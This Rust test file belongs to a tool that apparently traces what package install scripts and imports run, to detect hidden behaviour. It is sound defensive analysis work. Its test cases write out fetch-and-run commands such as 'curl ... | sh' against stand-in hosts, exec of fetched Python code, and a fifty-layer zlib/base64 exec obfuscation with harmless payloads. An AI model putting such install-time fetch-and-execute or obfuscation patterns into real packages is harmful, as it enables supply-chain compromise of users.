//! What each entry comes to run, file by file, and the way to each step.

use std::io::Write as _;

use cerebro::behavior::{Reading, RunTarget, Sequence, extract};
use cerebro::package::{Ecosystem, Entry, Package, Phase, Target};
use cerebro::syntax::Doc;
use cerebro::text::Span;
use rstest::rstest;

use super::{entry, package};

/// Each run as `depth: file, its first statement`, or what is unresolved.
fn runs(package: &Package, sequence: &Sequence) -> Vec<String> {
    let name = |doc: Doc| match doc {
        Doc::File(file) => package.files[file].path.trim_start_matches("package/").to_owned(),
        Doc::Layer(layer) => sequence.layers[layer].recipe.join("+"),
    };
    let text = |doc: Doc| match doc {
        Doc::File(file) => package.files[file].source.as_ref().unwrap().text.clone(),
        Doc::Layer(layer) => sequence.layers[layer].source.text.clone(),
    };
    sequence
        .runs
        .iter()
        .map(|run| {
            let from = run.from.map_or_else(String::new, |site| {
                format!("{} `{}` > ", name(site.doc), &text(site.doc)[site.span.start..site.span.end])
            });
            match &run.target {
                RunTarget::Text { doc, first } => {
                    let (text, name) = (text(*doc), name(*doc));
                    let line = text[..first.start].rfind('\n').map_or(0, |at| at + 1);
                    format!("{from}{name}: {}", text[line..].lines().next().unwrap_or(""))
                }
                RunTarget::Unresolved(what) => format!("{from}? {what}"),
            }
        })
        .collect()
}

fn npm_script(script: &str, files: &[(&str, &str)]) -> Vec<String> {
    let manifest = format!("{{\"scripts\": {{\"postinstall\": \"{script}\"}}}}");
    let mut all = vec![("package.json", manifest.as_str())];
    all.extend(files);
    let start = manifest.find(script).unwrap();
    let mut package = package(Ecosystem::Npm, &all, Vec::new());
    let file = package.by_path("package/package.json").unwrap();
    let span = Span { start, end: start + script.len() };
    let target = Target::Shell { file, span, text: script.to_owned() };
    package.manifest.file = Some(file);
    package.entries = vec![Entry { phase: Phase::Install, name: "postinstall".to_owned(), target }];
    let sequence = extract(&package, &Reading::default()).sequence;
    runs(&package, &sequence)
}

#[rstest]
#[case::functions_stand_first("'use strict';\nrequire('os');\nfunction f() {}\n", "require('os');")]
#[case::classes("class A {}\nconst g = () => 1;\nf(1);\nfunction f() {}\n", "f(1);")]
#[case::nothing_but_definitions("// f\nfunction f() {}\nclass A {}\n", "function f() {}")]
fn the_first_statement_is_the_first_that_runs(#[case] code: &str, #[case] first: &str) {
    assert_eq!(npm_script("node a.js", &[("a.js", code)]), [format!("package.json `node a.js` > a.js: {first}")]);
}

#[test]
fn a_script_is_followed_two_files_deep() {
    let files = [("a.js", "'use strict';\n// setup\nrequire('./b');\n"), ("b.js", "const os = require('os');\n")];
    let expected =
        ["package.json `node a.js` > a.js: require('./b');", "a.js `require('./b')` > b.js: const os = require('os');"];
    assert_eq!(npm_script("node a.js", &files), expected);
}

#[rstest]
#[case("node missing.js", &[], "package.json `node missing.js` > ? missing.js is not in the package")]
#[case("node a.js", &[("a.js", "require(process.env.NAME)\n")], "a.js `require(process.env.NAME)` > ? a module whose name is computed")]
#[case("node a.js", &[("a.js", "require('./gone')\n")], "a.js `require('./gone')` > ? ./gone is not in the package")]
#[case("node $FOO", &[], "package.json `node $FOO` > ? $FOO is known only when it runs")]
#[case("node a.js", &[("a.js", "eval(process.env.CODE)\n")], "a.js `eval(process.env.CODE)` > ? code that is known only when it runs")]
fn what_cannot_be_known_is_said(#[case] script: &str, #[case] files: &[(&str, &str)], #[case] expected: &str) {
    let found = npm_script(script, files);
    assert!(found.iter().any(|run| run == expected), "{found:#?}");
}

#[rstest]
#[case::variable("$X", "$X is known only when it runs")]
#[case::quoted("'$X'", "$X is known only when it runs")]
#[case::windows("%VAR%", "%VAR% is known only when it runs")]
#[case::with_arguments("${RUNNER:-} && $npm_config_cmd a b", "$npm_config_cmd is known only when it runs")]
#[case::substitution("$(cat name) a", "$(cat name) a is known only when it runs")]
#[case::npx("npx --yes other-pkg --flag", "other-pkg is code of another package")]
#[case::npx_package("npx -p other-pkg tool", "other-pkg, tool are code of other packages")]
#[case::npm_exec("npm exec -- other-pkg", "other-pkg is code of another package")]
#[case::npm_install("npm i --no-save left right@1.0", "left, right@1.0 are code of other packages")]
#[case::yarn_dlx("yarn dlx other-pkg", "other-pkg is code of another package")]
#[case::pnpm_dlx("pnpm dlx other-pkg", "other-pkg is code of another package")]
#[case::bunx("bunx other-pkg", "other-pkg is code of another package")]
#[case::uvx("uvx other-pkg", "other-pkg is code of another package")]
#[case::pipx("pipx run other-pkg", "other-pkg is code of another package")]
#[case::pip("python3 -m pip install -q other-pkg", "other-pkg is code of another package")]
#[case::computed_package("npx $X", "$X is known only when it runs")]
#[case::piped("curl -s https://a.invalid/x | sh", "sh runs code that is fetched")]
#[case::substituted(
    "sh -c '$(curl -s https://a.invalid/x)'",
    "$(curl -s https://a.invalid/x) is known only when it runs"
)]
#[case::command_line("sh -c $X", "$X is known only when it runs")]
#[case::python_code("python -c $X", "python runs $X, which is known only when it runs")]
#[case::sourced(". ./$X", "./$X is known only when it runs")]
#[case::evaluated("eval $X", "$X is known only when it runs")]
#[case::evaluated_fetch("eval `curl -s https://a.invalid/x`", "eval runs code that is fetched")]
#[case::piped_file("cat name | node", "./name is not in the package")]
#[case::piped_unknown("gpg -d name | node", "node runs code that is known only when it runs")]
#[case::script("npm run nothing", "nothing is not a script of package.json")]
#[case::runs_other("evil-bin --now", "evil-bin is code of another package")]
#[case::husky("husky install", "husky is code of another package")]
#[case::gyp_build("node-gyp-build", "node-gyp-build is code of another package")]
#[case::compiler("tsc -p .", "tsc is code of another package")]
#[case::below_modules("node_modules/.bin/other-bin a", "other-bin is code of another package")]
#[case::preloaded("node -r other-pkg/register -e '1'", "other-pkg/register is code of another package")]
#[case::no_script("node --run nothing", "nothing is not a script of package.json")]
#[case::scripts("run-s nothing", "nothing is not a script of package.json")]
#[case::folder("npm i ./local", "./local is installed, and its own scripts run")]
#[case::names("ls | xargs node", "node runs code that is known only when it runs: xargs node")]
#[case::found("find . -name a -exec node {} ;", "find . -name a -exec node {} ; is known only when it runs")]
#[case::module("python3 -m other_pkg", "other_pkg is code of another package")]
#[case::no_file("node gone", "./gone is not in the package")]
#[case::no_program("./gone", "./gone is not in the package")]
#[case::perl("perl -e 'print 1'", "perl runs code on its command line, which is not read")]
#[case::deno("deno run -A https://a.invalid/x.ts", "code fetched from https://a.invalid/x.ts")]
fn what_the_package_does_not_hold_is_said(#[case] script: &str, #[case] expected: &str) {
    let found = npm_script(script, &[]);
    assert!(found.iter().any(|run| run.ends_with(&format!("? {expected}"))), "{found:#?}");
}

#[rstest]
#[case("echo done")]
#[case("npm install")]
#[case("pip install .")]
#[case("python3 -m venv x && python3 -m pip --version")]
#[case("mkdir -p out && cp -r a out || exit 0")]
#[case("npx node --version && npm exec -- node -v")]
#[case("cost=5 && echo $cost 100%")]
fn what_is_plain_is_not_called_unresolved(#[case] script: &str) {
    assert_eq!(npm_script(script, &[]), Vec::<String>::new());
}

#[rstest]
#[case::node("node -r ./a.js b.js", &["a.js", "b.js"])]
#[case::require("node --require=./a.js --no-warnings b.js -e 1", &["a.js", "b.js"])]
#[case::import("node --import ./a.js b.js", &["a.js", "b.js"])]
#[case::loader("node --experimental-loader ./a.js b.js", &["a.js", "b.js"])]
#[case::code_and_file("node -r ./a.js -e \\\"require('./b.js')\\\"", &["a.js", "b.js"])]
#[case::options("NODE_OPTIONS='-r ./a.js' node b.js", &["a.js", "b.js"])]
#[case::options_across("cross-env NODE_OPTIONS='--require ./a.js' node b.js", &["a.js", "b.js"])]
#[case::options_exported("export NODE_OPTIONS='--import=./a.js'; node b.js", &["a.js", "b.js"])]
#[case::value("node --title x -C dev a.js", &["a.js"])]
#[case::eval("node --eval=\\\"require('./a.js')\\\"", &["a.js"])]
#[case::print("node -p \\\"require('./a.js')\\\"", &["a.js"])]
#[case::print_apart("node --print --eval \\\"require('./a.js')\\\"", &["a.js"])]
#[case::input("node<a.js", &["a.js"])]
#[case::dash("node - < a.js", &["a.js"])]
#[case::shell_input("sh < a.sh", &["a.sh"])]
#[case::npx("npx node a.js", &["a.js"])]
#[case::npx_tool("npx -y tsx a.js", &["a.js"])]
#[case::npx_call("npx -c 'node a.js'", &["a.js"])]
#[case::npm_exec("npm exec node a.js", &["a.js"])]
#[case::npm_exec_dashes("npm exec -- node a.js", &["a.js"])]
#[case::yarn("yarn node a.js", &["a.js"])]
#[case::corepack("corepack yarn node a.js", &["a.js"])]
#[case::module("python3 -m part", &["part.py"])]
#[case::package("python3 -um pkg", &["pkg/__init__.py", "pkg/__main__.py"])]
#[case::python_values("python3 -X dev -W ignore part.py", &["part.py"])]
#[case::python_code("python3 -Wignore -c 'import part'", &["part.py"])]
#[case::deno("deno run -A a.js", &["a.js"])]
#[case::bun("bun run a.js", &["a.js"])]
#[case::bun_file("bun a.js", &["a.js"])]
#[case::nodemon("nodemon -w src a.js", &["a.js"])]
#[case::nodemon_exec("nodemon --exec 'node a.js'", &["a.js"])]
#[case::tsx("tsx a.js", &["a.js"])]
#[case::ts_node("ts-node -P x.json a.js", &["a.js"])]
#[case::together("concurrently -n x 'node a.js' 'node b.js'", &["a.js", "b.js"])]
#[case::names("echo a.js | xargs node", &["a.js"])]
#[case::found("find . -name x -exec node a.js {} +", &["a.js"])]
#[case::any_name("node a.dat", &["a.dat"])]
fn every_file_of_a_command_line_is_followed(#[case] script: &str, #[case] expected: &[&str]) {
    let code = "require('os').hostname()\n";
    let files = [
        ("a.dat", code),
        ("a.js", code),
        ("a.sh", "id\n"),
        ("b.js", code),
        ("part.py", "import os\n"),
        ("pkg/__init__.py", "import sys\n"),
        ("pkg/__main__.py", "import os\n"),
    ];
    let found = npm_script(script, &files);
    let mut started = found.iter().filter_map(|run| run.rsplit_once(" > ")?.1.split_once(": ")).map(|(file, _)| file);
    for file in expected {
        assert!(started.any(|found| found == *file), "{script}: {found:#?}");
    }
}

#[rstest]
#[case("wscript w.vbs", "w.vbs", "w.vbs is VBScript, which is not read")]
#[case("perl a.pl", "a.pl", "a.pl is Perl, which is not read")]
#[case("php -f a.php", "a.php", "a.php is PHP, which is not read")]
#[case("go run main.go", "main.go", "main.go is Go, which is not read")]
#[case("./a.dat", "a.dat", "a.dat is text of an unknown language, which is not read")]
#[case("make -C lib all", "lib/Makefile", "lib/Makefile is built by make, and commands in it run")]
#[case("cmake -B out", "CMakeLists.txt", "CMakeLists.txt is built by cmake, and commands in it run")]
fn what_is_not_read_is_named(#[case] script: &str, #[case] path: &str, #[case] expected: &str) {
    let found = npm_script(script, &[(path, "x\n")]);
    assert!(found.iter().any(|run| run.ends_with(&format!("? {expected}"))), "{found:#?}");
}

#[test]
fn scripts_of_the_manifest_are_run_by_name_and_pattern() {
    for script in
        ["node --run b:one", "run-s b:one", "npm-run-all -p b:*", "corepack yarn b:one", "concurrently npm:b:one"]
    {
        let manifest = format!("{{\"scripts\": {{\"postinstall\": \"{script}\", \"b:one\": \"node a.js\"}}}}");
        let files = [("a.js", "require('os')\n"), ("package.json", manifest.as_str())];
        let target = Target::Shell { file: 1, span: Span { start: 0, end: 1 }, text: script.to_owned() };
        let hook = Entry { phase: Phase::Install, name: "postinstall".to_owned(), target };
        let mut package = package(Ecosystem::Npm, &files, vec![hook]);
        package.manifest.file = Some(1);
        let sequence = extract(&package, &Reading::default()).sequence;
        let found = runs(&package, &sequence);
        assert!(found.iter().any(|run| run.ends_with("a.js: require('os')")), "{script}: {found:#?}");
    }
}

#[test]
fn what_a_build_with_gyp_runs_is_said() {
    let gyp = "{'targets': [{'sources': ['<!(node a.js)'],\n 'actions': [{'action': ['python3', 'b.py']}]}]}";
    let files = [("binding.gyp", gyp), ("a.js", "require('os').hostname()\n"), ("b.py", "import os\n")];
    for script in ["node-gyp rebuild", "node-gyp-build"] {
        let told = npm_script(script, &files);
        for expected in [
            "binding.gyp `'<!(node a.js)'` > a.js: require('os').hostname()",
            "binding.gyp `['python3', 'b.py']` > b.py: import os",
        ] {
            assert!(told.iter().any(|run| run == expected), "{told:#?}");
        }
    }
    let told = npm_script("node-gyp rebuild", &[]);
    assert!(told[0].ends_with("? binding.gyp is not in the package, and node-gyp needs it"), "{told:?}");
}

#[test]
fn what_make_runs_is_followed() {
    let files = [("Makefile", "all:\n\tnode a.js\nother:\n\tnode b.js\n"), ("a.js", "one()\n"), ("b.js", "two()\n")];
    let first = npm_script("make", &files);
    assert!(first.iter().any(|run| run.ends_with("> a.js: one()")), "{first:#?}");
    assert!(!first.iter().any(|run| run.ends_with("> b.js: two()")), "{first:#?}");
    let named = npm_script("make -s other", &files);
    assert!(named.iter().any(|run| run.ends_with("> b.js: two()")), "{named:#?}");
}

#[test]
fn variables_of_npm_are_known() {
    let manifest = r#"{"main": "a.js", "scripts": {"postinstall": "node $npm_package_main"}}"#;
    let files = [("a.js", "one()\n"), ("package.json", manifest)];
    let text = "node $npm_package_main".to_owned();
    let target = Target::Shell { file: 1, span: Span { start: 0, end: 1 }, text };
    let hook = Entry { phase: Phase::Install, name: "postinstall".to_owned(), target };
    let package = package(Ecosystem::Npm, &files, vec![hook]);
    let told = runs(&package, &extract(&package, &Reading::default()).sequence);
    assert!(told.iter().any(|run| run.ends_with("> a.js: one()")), "{told:#?}");
}

#[test]
fn a_shell_asks_for_no_ending() {
    let files = [("x.woff2", "node a.js\n"), ("a.js", "one()\n")];
    let told = npm_script("sh x.woff2", &files);
    assert!(told.iter().any(|run| run.ends_with("> a.js: one()")), "{told:#?}");
}

#[test]
fn shell_scripts_and_layers_are_runs_too() {
    let files = [("run.sh", "#!/bin/sh\n# setup\n\necho hello\n")];
    assert_eq!(npm_script("sh run.sh", &files), ["package.json `sh run.sh` > run.sh: echo hello"]);
    let code = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
    let package = package(Ecosystem::Pypi, &[("setup.py", code)], vec![entry(Phase::Install, "setup.py", 0)]);
    let sequence = extract(&package, &Reading::default()).sequence;
    let expected =
        ["setup.py: import base64", "setup.py `exec(base64.b64decode('cHJpbnQoMSk='))` > b64decode+exec: print(1)"];
    assert_eq!(runs(&package, &sequence), expected);
}

#[test]
fn python_imports_inside_the_package_are_runs() {
    let files = [("demo/__init__.py", "\"\"\"Doc.\"\"\"\nfrom . import part\n"), ("demo/part.py", "import os\n")];
    let package = package(Ecosystem::Pypi, &files, vec![entry(Phase::Import, "import demo", 0)]);
    let sequence = extract(&package, &Reading::default()).sequence;
    let expected =
        ["demo/__init__.py: from . import part", "demo/__init__.py `from . import part` > demo/part.py: import os"];
    assert_eq!(runs(&package, &sequence), expected);
}

#[test]
fn each_step_knows_from_where_each_function_was_entered() {
    let code = "import os\n\ndef inner():\n    os.system('ls')\n\ndef outer():\n    inner()\n\nouter()\n";
    let package = package(Ecosystem::Pypi, &[("setup.py", code)], vec![entry(Phase::Install, "setup.py", 0)]);
    let sequence = extract(&package, &Reading::default()).sequence;
    let step = sequence.steps.iter().find(|step| step.feature.code() == "P2").unwrap();
    assert_eq!(step.call_path, ["package/setup.py", "outer", "inner"]);
    let sites: Vec<Option<&str>> =
        step.call_sites.iter().map(|site| site.map(|s| &code[s.span.start..s.span.end])).collect();
    assert_eq!(sites, [None, Some("outer()"), Some("inner()")]);
}

#[test]
fn no_depth_of_calls_hides_when_code_runs() {
    let functions: String = (0..300).map(|i| format!("def f{i}():\n    f{}()\n", i + 1)).collect();
    let code = format!("import os\n{functions}def f300():\n    os.system('ls')\nf0()\n");
    let package = package(Ecosystem::Pypi, &[("setup.py", &code)], vec![entry(Phase::Install, "setup.py", 0)]);
    let sequence = extract(&package, &Reading::default()).sequence;
    let step = sequence.steps.iter().find(|step| step.feature.code() == "P2").unwrap();
    assert_eq!(step.phase, Phase::Install);
    assert_eq!(step.call_path.last().map(String::as_str), Some("f300"));
    assert!(step.call_path.len() < 100, "{}", step.call_path.len());
    assert!(sequence.skipped.iter().any(|skip| skip.reason.contains("nested more than")), "{:?}", sequence.skipped);
}

#[test]
fn no_depth_of_imports_hides_when_code_runs() {
    let path = |i: usize| format!("m{i}.js");
    let mut files: Vec<(String, String)> =
        (0..120).map(|i| (path(i), format!("exports.go = require('./m{}').go;", i + 1))).collect();
    files.push((path(120), "require('child_process').exec('ls');".to_owned()));
    let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    let package = package(Ecosystem::Npm, &files, vec![entry(Phase::Install, "m0.js", 0)]);
    let sequence = extract(&package, &Reading::default()).sequence;
    let step = sequence.steps.iter().find(|step| step.feature.code() == "P2").unwrap();
    assert_eq!(step.phase, Phase::Install, "{:?}", sequence.entries);
}

#[test]
fn functions_that_call_each_other_without_end_end() {
    let code = "import os\ndef a(n):\n    b(n + 1)\ndef b(n):\n    a(n + 1)\n    os.system('ls')\na(0)\n";
    let package = package(Ecosystem::Pypi, &[("setup.py", code)], vec![entry(Phase::Install, "setup.py", 0)]);
    let sequence = extract(&package, &Reading::default()).sequence;
    assert!(sequence.steps.iter().any(|step| step.feature.code() == "P2" && step.phase == Phase::Install));
    assert!(!sequence.skipped.iter().any(|skip| skip.kind.hides_code()), "{:?}", sequence.skipped);
}

#[test]
fn a_nest_of_fifty_layers_is_read_to_its_end() {
    let mut code = "import os\nos.system('ls')\n".to_owned();
    for _ in 0..50 {
        let mut packed = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        packed.write_all(code.as_bytes()).unwrap();
        let encoded = cerebro::syntax::decode::to_base64(&packed.finish().unwrap());
        code = format!(
            "_ = lambda s: __import__('zlib').decompress(__import__('base64').b64decode(s))\nexec(_('{encoded}'))\n"
        );
    }
    let package = package(Ecosystem::Pypi, &[("setup.py", &code)], vec![entry(Phase::Install, "setup.py", 0)]);
    let sequence = extract(&package, &Reading::default()).sequence;
    assert_eq!(sequence.layers.len(), 50, "{:?}", sequence.skipped);
    assert!(sequence.steps.iter().any(|step| step.feature.code() == "P2" && step.phase == Phase::Install));
}

/// The runs and steps of a package whose install script is the first file.
fn installed(ecosystem: Ecosystem, files: &[(&str, &str)]) -> (Vec<String>, Vec<(String, Phase)>) {
    // Files are sorted by their paths.
    let at = files.iter().filter(|(path, _)| *path < files[0].0).count();
    let package = package(ecosystem, files, vec![entry(Phase::Install, files[0].0, at)]);
    let sequence = extract(&package, &Reading::default()).sequence;
    let unresolved = sequence.runs.iter().filter_map(|run| match &run.target {
        RunTarget::Unresolved(what) => Some(what.clone()),
        RunTarget::Text { .. } => None,
    });
    let steps = sequence.steps.iter().map(|step| (step.feature.code().to_owned(), step.phase));
    (unresolved.collect(), steps.collect())
}

#[rstest]
#[case::any_name("require('./data.txt')", "data.txt")]
#[case::no_ending("require('./data')", "data")]
#[case::style_sheet("import './x.min.css'", "x.min.css")]
#[case::own_folder("require(__dirname + '/data.js')", "data.js")]
#[case::joined("const path = require('path'); require(path.join(__dirname, 'data'))", "data.js")]
#[case::of_the_module("module.require('./data')", "data.js")]
#[case::called("require.call(module, './data')", "data.js")]
#[case::applied("require.apply(null, ['./data'])", "data.js")]
#[case::loaded("require('module')._load('./data.js')", "data.js")]
fn what_node_loads_is_walked_whatever_its_name(#[case] code: &str, #[case] name: &str) {
    let files = [("i.js", code), (name, "require('child_process').exec('ls')")];
    let (unresolved, steps) = installed(Ecosystem::Npm, &files);
    assert!(steps.contains(&("P2".to_owned(), Phase::Install)), "{steps:?} {unresolved:?}");
    assert_eq!(unresolved, Vec::<String>::new());
}

#[rstest]
#[case::path("import runpy\nrunpy.run_path('data.txt')")]
#[case::module("import runpy\nrunpy.run_module('data')")]
#[case::file("execfile('data.txt')")]
#[case::source("import imp\nimp.load_source('x', 'data.txt')")]
fn what_python_runs_by_name_is_walked(#[case] code: &str) {
    let files =
        [("setup.py", code), ("data.txt", "import os\nos.system('ls')\n"), ("data.py", "import os\nos.system('ls')\n")];
    let (unresolved, steps) = installed(Ecosystem::Pypi, &files);
    assert!(steps.contains(&("P2".to_owned(), Phase::Install)), "{steps:?} {unresolved:?}");
    assert_eq!(unresolved, Vec::<String>::new());
}

#[rstest]
#[case::read(Ecosystem::Pypi, "exec(open('/srv/data.bin').read())", "code that is read from a file when it runs")]
#[case::compiled(
    Ecosystem::Pypi,
    "exec(compile(open('/srv/data.bin').read(), 'x', 'exec'))",
    "code that is read from a file when it runs"
)]
#[case::fetched(
    Ecosystem::Pypi,
    "import urllib.request\nexec(urllib.request.urlopen('https://a.example.com').read())",
    "code that is fetched"
)]
#[case::text(
    Ecosystem::Npm,
    "require('./prose.txt')",
    "prose.txt does not read as code: syntax errors: the parser skipped or guessed some parts"
)]
#[case::native(Ecosystem::Npm, "require('./a.node')", "a.node is native or compiled code, which is not read")]
fn code_that_cannot_be_read_is_said(#[case] ecosystem: Ecosystem, #[case] code: &str, #[case] expected: &str) {
    let name = if ecosystem == Ecosystem::Npm { "i.js" } else { "setup.py" };
    let files = [
        (name, code),
        ("prose.txt", "It is a text, of course: no code at all."),
        ("a.node", "native"),
        ("data.bin", "x"),
    ];
    assert_eq!(installed(ecosystem, &files).0, [expected]);
}

#[test]
fn a_folder_known_only_when_it_runs_is_said_though_the_file_is_followed() {
    let files = [("i.js", "require('child_process').exec('node $X/far.js')"), ("far.js", "require('os').hostname()")];
    let (unresolved, steps) = installed(Ecosystem::Npm, &files);
    assert!(steps.contains(&("R2".to_owned(), Phase::Install)), "{steps:?}");
    assert_eq!(unresolved, ["$X/far.js is known only when it runs; the package has one far.js"]);
}
